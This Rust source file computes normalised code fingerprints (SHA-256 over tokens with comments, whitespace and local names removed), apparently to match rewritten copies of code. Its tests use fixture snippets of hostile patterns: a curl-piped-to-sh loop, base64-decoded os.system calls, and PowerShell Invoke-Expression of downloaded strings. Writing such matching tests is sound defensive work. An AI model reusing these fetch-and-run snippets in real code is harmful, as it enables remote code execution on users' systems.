//! Fingerprint of code: a digest of its tokens without comments, white space, quotes of texts and the names that the
//! file gives to its own things.
//!
//! The tokens come from a small scanner, not from the parsers: a fingerprint stays the same when a parser is updated,
//! and code that no parser accepts has one too. A change of the form changes [`FORM`].

use rustc_hash::{FxHashMap, FxHashSet};
use sha2::{Digest, Sha256};

use super::token::{COMMANDS_FOLLOW, Style, Token, Tokens};
use crate::language::Language;

/// Beginning of what is hashed: the form of the tokens.
const FORM: &str = "hotcell.fingerprint/1";
/// Minimum number of tokens. Shorter files (an import, a call) are alike without being related.
pub(crate) const MIN_TOKENS: usize = 8;
/// Maximum number of names of a file that are replaced; later ones stay as they are.
const MAX_OWN_NAMES: usize = 65_536;
/// Maximum nesting of round brackets that are searched for parameters.
const MAX_DEPTH: usize = 64;
/// Maximum number of parameters of one pair of brackets.
const MAX_PARAMETERS: usize = 32;
/// Size of the pieces that are hashed, in bytes.
const PIECE: usize = 4096;

/// Words that the name of the file's own thing follows.
const DECLARING: &[&str] = &[
    "def",
    "class",
    "function",
    "func",
    "fn",
    "let",
    "const",
    "var",
    "mut",
    "as",
    "struct",
    "enum",
    "type",
    "interface",
    "local",
    "declare",
    "readonly",
];
/// Words that the parameters of a function follow, with or without its name.
const FUNCTIONS: &[&str] = &["def", "function", "func", "fn"];

/// Digest of a text's code; `None` for less than [`MIN_TOKENS`] tokens.
pub(crate) fn fingerprint(language: Language, text: &str) -> Option<[u8; 32]> {
    let style = Style::of(language);
    let (own, kept) = own_names(style, text);
    let mut numbers: FxHashMap<&str, u32> = FxHashMap::default();
    let mut hash = Sha256::new();
    let mut piece = Vec::with_capacity(PIECE + 256);
    piece.extend_from_slice(FORM.as_bytes());
    piece.push(0);
    piece.extend_from_slice(style.name().as_bytes());
    piece.push(0);
    let (mut count, mut before) = (0, [None; 2]);
    for (at, token) in Tokens::new(style, text).enumerate() {
        count += usize::from(!is_gap(token));
        match token {
            Token::Word(word) if !is_member(before) && own.contains(word) && !kept.contains(&at) => {
                let next = u32::try_from(numbers.len()).unwrap_or(u32::MAX);
                let number = *numbers.entry(word).or_insert(next);
                piece.push(b'n');
                piece.extend_from_slice(&number.to_le_bytes());
            }
            Token::Word(word) => {
                piece.push(b'w');
                if style.ignores_case() {
                    piece.extend(word.bytes().map(|byte| byte.to_ascii_lowercase()));
                } else {
                    piece.extend_from_slice(word.as_bytes());
                }
                piece.push(0);
            }
            Token::Text(text) => {
                piece.push(b't');
                let length = u64::try_from(unescaped(text).count()).unwrap_or(u64::MAX);
                piece.extend_from_slice(&length.to_le_bytes());
                piece.extend(unescaped(text));
            }
            Token::Sign(sign) => {
                piece.push(b's');
                piece.extend_from_slice(sign.encode_utf8(&mut [0; 4]).as_bytes());
            }
        }
        before = [Some(token), before[0]];
        if piece.len() >= PIECE {
            hash.update(&piece);
            piece.clear();
        }
    }
    hash.update(&piece);
    (count >= MIN_TOKENS).then(|| hash.finalize().into())
}

/// True for a mark of white space between the words of a shell's command, or of the end of a command.
fn is_gap(token: Token<'_>) -> bool {
    matches!(token, Token::Sign(' ' | '\n'))
}

/// True behind the dot before a member's name, and false behind the third dot of `...args`.
fn is_member(before: [Option<Token<'_>>; 2]) -> bool {
    let dot = Some(Token::Sign('.'));
    before[0] == dot && before[1] != dot
}

/// Bytes of a text without backslashes before quotes, which depend on the quotes around it.
fn unescaped(text: &str) -> impl Iterator<Item = u8> + '_ {
    let bytes = text.as_bytes();
    bytes.iter().enumerate().filter_map(move |(at, byte)| {
        let quote = bytes.get(at + 1).is_some_and(|next| matches!(next, b'\'' | b'"' | b'`'));
        (*byte != b'\\' || !quote).then_some(*byte)
    })
}

/// Round brackets that are open.
#[derive(Default)]
struct Open<'t> {
    /// True for the parameters of a function.
    parameters: bool,
    /// Names that follow the bracket or a comma.
    names: Vec<&'t str>,
}

/// Names that a file gives to its own things: variables, functions, classes and parameters, and the numbers of tokens
/// that stay: names of arguments and of fields. Modules, members and functions of others are not among the names.
fn own_names(style: Style, text: &str) -> (FxHashSet<&str>, FxHashSet<usize>) {
    let (mut own, mut kept) = (FxHashSet::default(), FxHashSet::default());
    if style == Style::Plain {
        return (own, kept);
    }
    let mut add = |name| {
        if own.len() < MAX_OWN_NAMES && !(style == Style::Shell && is_of_environment(name)) {
            own.insert(name);
        }
    };
    let mut imported: FxHashSet<&str> = FxHashSet::default();
    let mut importing = false;
    // Words behind `from`, before `import`.
    let mut source: Option<Vec<&str>> = None;
    let mut open: Vec<Open<'_>> = Vec::new();
    // Round brackets beyond the depth that is searched.
    let mut deeper = 0_usize;
    let mut brackets: Vec<char> = Vec::new();
    let mut closed: Vec<&str> = Vec::new();
    // Names before commas and `=`: `a, b = 1, 2`.
    let mut targets: Vec<&str> = Vec::new();
    let mut listing = false;
    let mut before = [None::<Token<'_>>; 3];
    let mut tokens = Tokens::new(style, text).enumerate().peekable();
    while let Some((at, token)) = tokens.next() {
        let last = before[0];
        let is_member = is_member([before[0], before[1]]);
        let after = match tokens.peek() {
            Some((_, Token::Sign(sign))) => Some(*sign),
            _ => None,
        };
        importing = importing && stays_in_import(last, token);
        if !importing {
            source = None;
        }
        match token {
            Token::Word(word) => {
                let is_name = word.starts_with(|c: char| c.is_alphabetic() || c == '_');
                if last != Some(Token::Sign(',')) || is_member || targets.len() >= MAX_PARAMETERS {
                    targets.clear();
                }
                if is_name && !is_member {
                    targets.push(word);
                }
                match word {
                    // `raise x from y` imports nothing.
                    "from" if style.imports() && !is_member => (importing, source) = (true, Some(Vec::new())),
                    "import" if style.imports() && !is_member => {
                        importing = true;
                        imported.extend(source.take().unwrap_or_default());
                    }
                    word if importing && last != Some(Token::Word("as")) && word != "as" => match &mut source
                    {
                        Some(source) => source.push(word),
                        None => {
                            imported.insert(word);
                        }
                    },
                    _ => {}
                }
                if listing && matches!(word, "in" | "of") {
                    listing = false;
                } else if matches!(word, "for" | "lambda") {
                    listing = true;
                } else if is_name && !is_member {
                    if declares(style, before) || listing && !DECLARING.contains(&word) {
                        add(word);
                    }
                    if let Some(open) = open.last_mut()
                        && matches!(last, Some(Token::Sign('(' | ',' | '*' | '.')))
                        && open.names.len() < MAX_PARAMETERS
                    {
                        open.names.push(word);
                    }
                }
                // `{ data: data }`.
                if style == Style::JavaScript
                    && after == Some(':')
                    && brackets.last() == Some(&'{')
                    && matches!(last, Some(Token::Sign('{' | ',')))
                {
                    kept.insert(at);
                }
            }
            Token::Sign('(') if open.len() < MAX_DEPTH => {
                let is_function =
                    |token| matches!(token, Some(Token::Word(word)) if FUNCTIONS.contains(&word));
                let parameters = is_function(last) || is_function(before[1]);
                open.push(Open { parameters, names: Vec::new() });
            }
            Token::Sign('(') => deeper += 1,
            Token::Sign(')') if deeper > 0 => deeper -= 1,
            Token::Sign(')') => {
                closed.clear();
                if let Some(Open { parameters, names }) = open.pop() {
                    if parameters {
                        names.iter().copied().for_each(&mut add);
                    }
                    closed = names;
                }
            }
            Token::Sign('=') => {
                listing = false;
                match last {
                    // `(a, b) => …`.
                    Some(Token::Sign(')')) if after == Some('>') => closed.drain(..).for_each(&mut add),
                    // `f(url=url)`.
                    Some(Token::Word(_))
                        if style == Style::Python
                            && after != Some('=')
                            && matches!(before[1], Some(Token::Sign('(' | ',')))
                            && open.last().is_some_and(|open| !open.parameters) =>
                    {
                        kept.insert(at - 1);
                    }
                    // `a => …`, `a = 1`; within brackets `a = 1` is an argument.
                    Some(Token::Word(name)) if after == Some('>') && before[1] != Some(Token::Sign('.')) => {
                        add(name);
                    }
                    Some(Token::Word(_))
                        if after != Some('=')
                            && open.is_empty()
                            && assigns(style, before[1], before[2], after) =>
                    {
                        let all = if style == Style::Python { 0 } else { targets.len().saturating_sub(1) };
                        targets.drain(..).skip(all).for_each(&mut add);
                    }
                    // `a := 1`.
                    Some(Token::Sign(':')) => {
                        if let Some(Token::Word(name)) = before[1]
                            && before[2] != Some(Token::Sign('.'))
                        {
                            add(name);
                        }
                    }
                    _ => {}
                }
            }
            Token::Sign(':' | '{' | '}') => listing = false,
            Token::Sign(_) | Token::Text(_) => {}
        }
        match token {
            Token::Sign(sign @ ('(' | '[' | '{')) => brackets.push(sign),
            Token::Sign(')' | ']' | '}') => {
                brackets.pop();
            }
            _ => {}
        }
        if !matches!(token, Token::Word(_) | Token::Sign(',')) {
            targets.clear();
        }
        before = [Some(token), before[0], before[1]];
    }
    own.retain(|name| !imported.contains(name));
    (own, kept)
}

/// True for a token that may still belong to an import: `import a, b`, `import { a as b } from`.
fn stays_in_import(last: Option<Token<'_>>, token: Token<'_>) -> bool {
    let joins = |word: &str| matches!(word, "import" | "from" | "as" | "type" | "static");
    match (last, token) {
        (Some(Token::Word(last)), Token::Word(word)) => joins(last) || joins(word),
        (_, Token::Word(_)) => true,
        (_, Token::Sign(sign)) => matches!(sign, ',' | '{' | '}' | '(' | ')' | '*' | '.'),
        (_, Token::Text(_)) => false,
    }
}

/// True behind a word that the name of the file's own thing follows.
fn declares(style: Style, before: [Option<Token<'_>>; 3]) -> bool {
    let word = match (style, before) {
        (Style::Shell, [Some(Token::Sign(' ')), Some(Token::Word(word)), _]) => word,
        (Style::Shell, _) => return false,
        (_, [Some(Token::Word(word)), ..]) => word,
        _ => return false,
    };
    DECLARING.contains(&word)
}

/// True for a name before `=` that is assigned to, by the tokens before the name and behind the sign. `name: type = 1` is
/// left out; in SQL the sign compares; in a shell the name begins a command and has no white space around the sign.
fn assigns(style: Style, last: Option<Token<'_>>, before: Option<Token<'_>>, after: Option<char>) -> bool {
    match style {
        Style::Sql => false,
        Style::Shell => {
            !matches!(after, Some(' ' | '\n'))
                && match last {
                    None | Some(Token::Sign('\n' | '|' | '&' | '(' | ')' | '{')) => true,
                    Some(Token::Word(word)) => COMMANDS_FOLLOW.contains(&word),
                    Some(Token::Sign(' ')) => {
                        matches!(before, Some(Token::Word(word)) if DECLARING.contains(&word))
                    }
                    _ => false,
                }
        }
        _ => !matches!(last, Some(Token::Sign('.' | ':'))),
    }
}

/// True for the name of a variable that programs get, by convention.
fn is_of_environment(name: &str) -> bool {
    !name.contains(char::is_lowercase)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn of(language: Language, text: &str) -> [u8; 32] {
        fingerprint(language, text).unwrap_or_else(|| panic!("too short: {text}"))
    }

    const PYTHON: &str = "import os\nimport base64 as b\ndef run(line, deep=1):\n    for part in line.split(','):\n        os.system(b.b64decode(part) + \"it's\")\nrun('aWQ=')\n";
    const JAVASCRIPT: &str = "const { exec } = require('child_process');\nfunction go(a) { let c = a + \"x\"; exec(c, (e, o) => { console.log(o) }) }\ngo('id');\n";
    const SHELL: &str = "#!/bin/sh\nurl='http://h/x'\nfor f in a b; do curl \"$url/$f\" | sh; done\n";

    #[test]
    fn rewritten_code_has_the_fingerprint_of_the_original() {
        use Language::{Bash, C, Go, JavaScript, PowerShell, Python, Rust, Sql, TypeScript};
        for (language, one, other) in [
            (
                Python,
                PYTHON,
                "import os\r\nimport base64 as zz  # x 'y\r\n\r\ndef q9(w,\n   v = 1):\r\n\tfor p in w.split(\",\"):\n\t\tos.system(zz.b64decode(p)+'it\\'s');\nq9('''aWQ=''')",
            ),
            (
                JavaScript,
                JAVASCRIPT,
                "/* 'x */ const {exec} = require(\"child_process\")\nfunction h(b) {\n let d = b + 'x' // y\n exec(d, (f, g) => {console.log(g)}) }\nh(`id`)",
            ),
            (
                TypeScript,
                JAVASCRIPT,
                "const { exec } = require('child_process'); function go(a) { let c = a + 'x'; exec(c, (e, o) => { console.log(o) }) } go('id')",
            ),
            (Bash, SHELL, "# c\nurl=\"http://h/x\"\n\nfor f in a b\ndo # d\n  curl \"$url/$f\" | sh\ndone"),
            (
                Go,
                "func main() { a := `x`; exec.Command(a).Run() }",
                "// c\nfunc main() {\n\tb := \"x\"\n\texec.Command(b).Run()\n}",
            ),
            (
                Rust,
                "fn f(x: &'static str) -> char { let y = 'z'; g(x, y) }",
                "fn f(q: &'static /* ' */ str) -> char {\n let r = 'z'; // '\n g(q, r) }",
            ),
            (
                C,
                "#include <stdio.h>\nint main(void) { puts(\"a\"); }",
                "#include <stdio.h> // x\nint main(void)\n{ /* y */ puts(\"a\");\n}",
            ),
            (
                Sql,
                "SELECT a FROM b WHERE c = 'd' AND e > 1",
                "select a -- it's\nfrom B where c='d' /* ' */ AND e>1",
            ),
            (
                PowerShell,
                "$a = 'x'; Invoke-Expression (New-Object Net.WebClient).DownloadString($a)",
                "<# ' #> $b = \"x\" # c\ninvoke-expression (new-object net.webclient).downloadstring($b)",
            ),
        ] {
            assert_eq!(of(language, one), of(language, other), "{language:?}\n{one}\n{other}");
        }
    }

    #[test]
    fn other_code_has_another_fingerprint() {
        let all = [
            PYTHON.to_owned(),
            PYTHON.replace("os.system", "os.popen"),
            PYTHON.replace("aWQ=", "bHM="),
            PYTHON.replace("b64decode", "b32decode"),
            PYTHON.replace("import os", "import sys"),
            PYTHON.replace("deep=1", "deep=2"),
            PYTHON.replace("+", "-"),
            PYTHON.replace("part in line", "line in part"),
            format!("{PYTHON}run('x')\n"),
        ];
        for (at, one) in all.iter().enumerate() {
            for other in &all[..at] {
                assert_ne!(of(Language::Python, one), of(Language::Python, other), "{one}\n{other}");
            }
        }
        assert_ne!(of(Language::Python, PYTHON), of(Language::Bash, PYTHON), "another language");
    }

    #[test]
    fn names_that_mean_something_stay() {
        use Language::{Bash, JavaScript, Python, Sql};
        for (language, one, other) in [
            (Sql, "select a from b where c = 'd' and c > 1", "select a from b where e = 'd' and e > 1"),
            (Bash, "dd if=/dev/zero of=x; echo $if $of", "dd of=/dev/zero if=x; echo $of $if"),
            (Bash, "PATH=/x; run a b c d $PATH", "HOME=/x; run a b c d $HOME"),
            (Bash, "echo a b c d e f g h", "echo ab c d e f g h i"),
            (Bash, "echo a-b c d e f g h", "echo a - b c d e f g h"),
            (Bash, "rm -f a b; c d e f g", "rm -f a; b c d e f g"),
            (Bash, "test a = b; c a d e f g", "test h = b; c h d e f g"),
            (Python, "import os; os = os.system('x')", "import re; re = re.system('x')"),
            (Python, "from a import run; run = run(1, 2)", "from a import go; go = go(1, 2)"),
            (Python, "x: int = f(int, 1, 2)", "x: str = f(str, 1, 2)"),
            (Python, "url = 1; f(url=url, a=2)", "path = 1; f(path=path, a=2)"),
            (Python, "f('a', 'b\\0tc', d, e)", "f('a\\0tb', 'c', d, e)"),
            (JavaScript, "let data = 1; f({data: data}, 2)", "let body = 1; f({body: body}, 2)"),
            (
                JavaScript,
                "import { exec } from 'a'; exec = 1; exec()",
                "import { fork } from 'a'; fork = 1; fork()",
            ),
        ] {
            assert_ne!(of(language, one), of(language, other), "{language:?}\n{one}\n{other}");
        }
        for (language, one, other) in [
            (Python, "url = 1; f(url=url, a=2)", "path = 1; f(url=path, a=2)"),
            (Python, "a, b = f(1); g(a, b, 2)", "c, d = f(1); g(c, d, 2)"),
            (Python, "import os\nrun = os.system('x'); run()", "import os\ngo = os.system('x'); go()"),
            (Python, "import a as b\nb.run(b, 1, 2)", "import a as c\nc.run(c, 1, 2)"),
            (JavaScript, "let data = 1; f({data: data}, 2)", "let body = 1; f({data: body}, 2)"),
            (JavaScript, "function f(...args) { g(...args, 1) }", "function h(...all) { g(...all, 1) }"),
            (Bash, "local a=1; echo $a b c d; e", "local f=1\necho   $f b \\\n c d\n e"),
        ] {
            assert_eq!(of(language, one), of(language, other), "{language:?}\n{one}\n{other}");
        }
    }

    #[test]
    fn short_code_has_no_fingerprint() {
        for (text, has) in [
            ("", false),
            ("# only a comment that has many words in it, and no code\n", false),
            ("import os\n", false),
            ("import os; os.system('x')", true),
        ] {
            assert_eq!(fingerprint(Language::Python, text).is_some(), has, "{text}");
        }
    }

    #[test]
    fn form_of_fingerprints_is_fixed() {
        let digest = |text: &str| hex::encode(of(Language::Python, text));
        // Feeds of operators have such digests: a change here needs another number in `FORM`.
        assert_eq!(
            digest("import os; os.system('x')"),
            expected(&["wimport", "wos", "wos", "s.", "wsystem", "s(", "tx", "s)"])
        );
        assert_eq!(
            digest("a = b; c.a(a, 'x')"),
            expected(&["n0", "s=", "wb", "wc", "s.", "wa", "s(", "n0", "s,", "tx", "s)"])
        );
    }

    /// Digest of tokens in Python's style, written out.
    fn expected(tokens: &[&str]) -> String {
        let mut bytes = b"hotcell.fingerprint/1\0python\0".to_vec();
        for token in tokens {
            match token.as_bytes() {
                [b'n', number] => bytes.extend([b'n', number - b'0', 0, 0, 0]),
                sign @ [b's', ..] => bytes.extend(sign),
                [b't', text @ ..] => {
                    bytes.push(b't');
                    bytes.extend((text.len() as u64).to_le_bytes());
                    bytes.extend(text);
                }
                other => {
                    bytes.extend(other);
                    bytes.push(0);
                }
            }
        }
        hex::encode(Sha256::digest(bytes))
    }

    proptest::proptest! {
        #[test]
        fn fingerprints_ignore_blanks_and_comments(
            words in proptest::collection::vec("[a-z]{1,4}|[0-9]{1,3}|'[a-z #/]{0,5}'|\"[a-z ]{0,5}\"|[-+*(),.=:\\[\\]{}]", 8..40),
            blanks in proptest::collection::vec(proptest::sample::select(&[" ", "  ", "\t", "\n", "\n\n", " # it's\n", "\n#\"\n", " \\\n"][..]), 40),
        ) {
            let plain = words.join(" ");
            let other: String = words.iter().zip(&blanks).map(|(word, blank)| format!("{word}{blank}")).collect();
            proptest::prop_assert_eq!(fingerprint(Language::Python, &plain), fingerprint(Language::Python, &other));
            let comment = |blank: &&str| blank.replace("# it's", "/* it's */ // \"").replace("#\"", "//'").replace("\\\n", "\n");
            let other: String = words.iter().zip(&blanks).map(|(word, blank)| format!("{word}{}", comment(blank))).collect();
            proptest::prop_assert_eq!(fingerprint(Language::Go, &plain), fingerprint(Language::Go, &other));
        }

        #[test]
        fn any_text_has_one_fingerprint_or_none(text in "\\PC{0,200}", language in proptest::sample::select(vec![
            Language::Python, Language::Bash, Language::JavaScript, Language::Rust, Language::Sql, Language::PowerShell, Language::Text,
        ])) {
            proptest::prop_assert_eq!(fingerprint(language, &text), fingerprint(language, &text));
        }
    }
}
